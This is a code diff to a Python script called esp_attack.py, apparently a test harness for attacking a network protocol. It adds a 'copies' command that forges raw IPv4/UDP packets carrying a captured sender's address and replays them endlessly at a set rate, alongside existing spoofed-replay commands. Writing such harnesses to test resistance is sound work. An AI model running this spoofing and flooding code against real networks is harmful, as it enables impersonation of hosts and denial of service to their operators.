@@ -3,6 +3,7 @@
 #        esp_attack.py hear DEVICE FILE                  JOINs that pass by, with their senders
 #        esp_attack.py again FILE TO SOURCE...           what was heard once more, for ever: in the
 #                                                        sender's name, and in that of each SOURCE
+#        esp_attack.py copies FILE TO PACKETS_PER_S      the first that was heard, for ever, in its sender's name
 #        esp_attack.py repeat FILE TO                    the packet of the file (hex), ten times a second, for ever
 #        esp_attack.py sees DEVICE ADDRESS               exits with 0 when a packet for it comes
 # "ready" is printed when it has begun (again: when all has been sent once).
@@ -77,19 +78,42 @@ def repeat(path, to):
         time.sleep(0.1)
 
 
+def raw_socket():
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.IPPROTO_RAW)
+
+
+def in_the_name_of(source, port, octets, to):
+    udp = struct.pack(">HHHH", int(port), PORT, 8 + len(octets) // 2, 0) + bytes.fromhex(octets)
+    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                       socket.inet_aton(source), socket.inet_aton(to)) + udp
+
+
+def copies(path, to, rate):
+    raw = raw_socket()
+    packet = in_the_name_of(*open(path).readline().split(), to)
+    began = time.monotonic()
+    for i in itertools.count():
+        try:
+            raw.sendto(packet, (to, 0))
+        except BlockingIOError:
+            pass
+        if i == 1000:
+            print("ready", flush=True)
+        ahead = i / float(rate) - (time.monotonic() - began)
+        if ahead > 0.002:
+            time.sleep(ahead)
+
+
 def again(path, to, *sources):
     letters = [line.split() for line in open(path)]
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.IPPROTO_RAW)
+    raw = raw_socket()
     for turn in itertools.count():
         for sender, port, octets in letters:
-            udp = struct.pack(">HHHH", int(port), PORT, 8 + len(octets) // 2, 0) + bytes.fromhex(octets)
             for source in (sender, *sources):
-                packet = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
-                                     socket.inet_aton(source), socket.inet_aton(to)) + udp
-                raw.sendto(packet, (to, 0))
+                raw.sendto(in_the_name_of(source, port, octets, to), (to, 0))
                 time.sleep(0.0005)
         if turn == 0:
             print("ready", flush=True)
 
 
-{"absent": absent, "hear": hear, "again": again, "repeat": repeat, "sees": sees}[sys.argv[1]](*sys.argv[2:])
+{"absent": absent, "hear": hear, "again": again, "copies": copies, "repeat": repeat, "sees": sees}[sys.argv[1]](*sys.argv[2:])
